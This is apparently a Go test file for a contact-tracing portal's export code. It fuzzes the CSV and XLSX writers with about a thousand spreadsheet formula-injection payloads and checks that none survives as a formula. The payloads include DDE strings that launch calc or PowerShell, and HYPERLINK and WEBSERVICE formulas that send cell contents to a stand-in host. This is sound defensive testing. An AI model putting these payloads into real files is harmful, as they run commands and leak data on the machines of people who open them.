package cases_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/qrgate/qrgate/server/portal/cases"
)

// payloads are a thousand cells by which others have made programs calculate.
func payloads() []string {
	signs := []string{"=", "+", "-", "@", "=-", "+=", "-+", "@=", "==", "＝", "＋", "－", "＠", "﹦", "﬩", "|", "%", "−"}
	before := []string{"", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u202e", "\x00", "\"", "'\t", ",", ";", "x;", "x,", "x\t", "\"x\",", "x\n", "\v", "\u2028", "\u0085", "|", "  \u200d"}
	after := []string{"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example?a=\"&A1,\"Xem\")", "IMPORTXML(\"http://x.example\",\"//a\")", "SUM(1)*DDE(\"a\",\"b\",\"c\")", "WEBSERVICE(\"http://x.example/\"&B2)", "2+5+cmd|'/c powershell'!_", "A1"}
	var all []string
	for n := 0; len(all) < 1000; n++ {
		// Each sign with each thing before it, then with the next thing after it.
		s := signs[n%len(signs)]
		b := before[n/len(signs)%len(before)]
		a := after[(n+n/len(signs)/len(before))%len(after)]
		all = append(all, b+s+a)
	}
	return all
}

// formula reports whether a program may take a cell for a formula.
func formula(cell string) bool {
	cell = strings.TrimLeftFunc(cell, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '"'
	})
	return cell != "" && strings.ContainsRune("=+-@|%＝＋－＠﹦﬩−", []rune(cell)[0])
}

func TestNoPayloadBecomesAFormula(t *testing.T) {
	all := payloads()
	rows := [][]string{{"Họ và tên", "Ghi chú"}}
	for _, p := range all {
		rows = append(rows, []string{p, "x" + p})
	}
	var text, book bytes.Buffer
	if err := cases.WriteCSV(&text, rows); err != nil {
		t.Fatal(err)
	}
	if err := cases.WriteXLSX(&book, rows); err != nil {
		t.Fatal(err)
	}
	// As each country's programs cut the same text.
	for _, comma := range ",;\t|" {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text.String(), "\ufeff")))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
		read, err := r.ReadAll()
		if err != nil {
			t.Fatalf("cut at %q: %v", comma, err)
		}
		if comma == ',' && len(read) != len(rows) {
			t.Errorf("%d rows are read as %d", len(rows), len(read))
		}
		for _, row := range read {
			for _, cell := range row {
				if formula(cell) {
					t.Errorf("cut at %q a cell is %q", comma, cell)
				}
			}
		}
	}
	// And without any quotes.
	for line := range strings.Lines(text.String()) {
		for _, cell := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(",;\t|\"", r) }) {
			if formula(strings.TrimSpace(cell)) {
				t.Errorf("without quotes a cell is %q", cell)
			}
		}
	}
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for n := range rows {
		for _, column := range []string{"A", "B"} {
			at := fmt.Sprintf("%s%d", column, n+1)
			got, err := f.GetCellFormula("Tiếp xúc", at)
			if err != nil || got != "" {
				t.Errorf("%s is the formula %q, %v", at, got, err)
			}
			if cell, err := f.GetCellValue("Tiếp xúc", at); err != nil || formula(cell) {
				t.Errorf("%s is %q, %v", at, cell, err)
			}
			if kind, err := f.GetCellType("Tiếp xúc", at); err != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("%s is of type %d, %v, want a string", at, kind, err)
			}
		}
	}
}

// Names and numbers that people have are left as they are.
func TestHonestCellsAreKept(t *testing.T) {
	for _, tt := range []struct{ cell, want string }{
		{"Nguyễn Văn An", "Nguyễn Văn An"}, {"O'Brien", "O'Brien"}, {"0905 123 456", "0905 123 456"}, {"", ""}, {"12/3 kiệt 45", "12/3 kiệt 45"},
		{"+1 555 0100", "'+1 555 0100"}, {"Lê\nThị", "Lê Thị"}, {"a - b", "a - b"}, {"08:05–08:12", "08:05–08:12"},
	} {
		if got := cases.Inert(tt.cell); got != tt.want {
			t.Errorf("inert(%q) = %q, want %q", tt.cell, got, tt.want)
		}
	}
	var out bytes.Buffer
	if err := cases.WriteCSV(&out, [][]string{{"046098001234", "0401234567", "2026"}}); err != nil {
		t.Fatal(err)
	}
	if got := out.String(); got != "\ufeff046 098 001 234,040 123 456 7,2026\r\n" {
		t.Errorf("numbers become %q", got)
	}
}

func FuzzInert(f *testing.F) {
	for i, p := range payloads() {
		if i%50 == 0 {
			f.Add(p)
		}
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := cases.Inert(s)
		if formula(got) {
			t.Errorf("inert(%q) = %q", s, got)
		}
	})
}
